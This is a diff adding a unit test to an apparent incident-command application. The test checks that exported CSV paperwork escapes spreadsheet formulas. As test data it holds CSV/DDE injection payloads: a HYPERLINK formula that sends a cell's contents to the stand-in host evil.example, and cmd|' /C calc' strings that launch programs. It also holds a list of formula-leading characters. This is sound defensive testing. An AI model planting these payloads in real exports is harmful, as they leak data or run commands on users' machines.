@@ -370,3 +370,44 @@ def test_role_changes_are_bounded_by_jurisdiction_and_by_command_held(world, inc
     with world.store.read() as session:
         roles = dict(session.execute(select(User.username, User.role)).all())
     assert (roles["cmd_pudong"], roles["planner"], roles["obs_xuhui"]) == ("observer", "planner", "observer")
+
+
+def test_paperwork_csv_from_hostile_text_holds_no_formula(world):
+    """An incident titled like a formula, a commander whose display name is one, a roster of them, formula-like
+    grant, rejection and approval reasons: every cell of the exported CSVs reads as text to a spreadsheet (a
+    leading quote where it would start a formula), and the title is there whole after its quote."""
+    import csv
+    import io
+
+    from command.incidents import RosterRow, import_roster
+    from command.paperwork import forms
+    from command.security import authenticate
+    from command.users import add_user
+
+    title = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    scenario = tiny_scenario()
+    add_user(world.store, world["admin"], username="cmd_evil", password=PASSWORD, role="commander",
+             jurisdiction="pudong", display_name="@SUM(1+1)*cmd|' /C calc'!A0")  # fmt: skip
+    holder = authenticate(world.store, "cmd_evil", PASSWORD)
+    iid = open_incident(world.store, world["admin"], scenario, jurisdiction="pudong", title=title)
+    grant_command(world.store, world["admin"], iid, "cmd_evil", hours=8, reason="+1+1")
+    import_roster(world.store, world["admin"], iid, [RosterRow("local", "-2+3+cmd|' /C calc'!A0", "+86 138 0000 0001",
+                                                               "leader")])  # fmt: skip
+    first = create_plan(world.store, world["planner"], iid, tiny_plan(scenario), scenario=scenario)
+    reject_plan(world.store, holder, first, password=PASSWORD, reason="=1+1",
+                shown=view_plan(world.store, holder, first).shown())  # fmt: skip
+    second = create_plan(world.store, world["planner"], iid, tiny_plan(scenario, count=7), scenario=scenario)
+    approve_plan(world.store, holder, second, password=PASSWORD, note="\t=cmd",
+                 shown=view_plan(world.store, holder, second).shown())  # fmt: skip
+    contents, _, _ = forms(world.store, holder, second)
+    tables = {name: list(csv.DictReader(io.StringIO(text, newline=""))) for name, text in contents.items()
+              if name.endswith(".csv")}  # fmt: skip
+    assert len(tables) == 2 and all(tables.values())
+    formula = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+    for rows in tables.values():
+        for row in rows:
+            assert not any(v.lstrip(" \t\r\n\u3000").startswith(formula) or v.startswith(formula)
+                           for v in row.values()), row  # fmt: skip
+            assert row["incident_name"] == "'" + title
+    (leader,) = {r["leader_name"] for rows in tables.values() for r in rows if r.get("team") == "local"}
+    assert leader == "'-2+3+cmd|' /C calc'!A0"
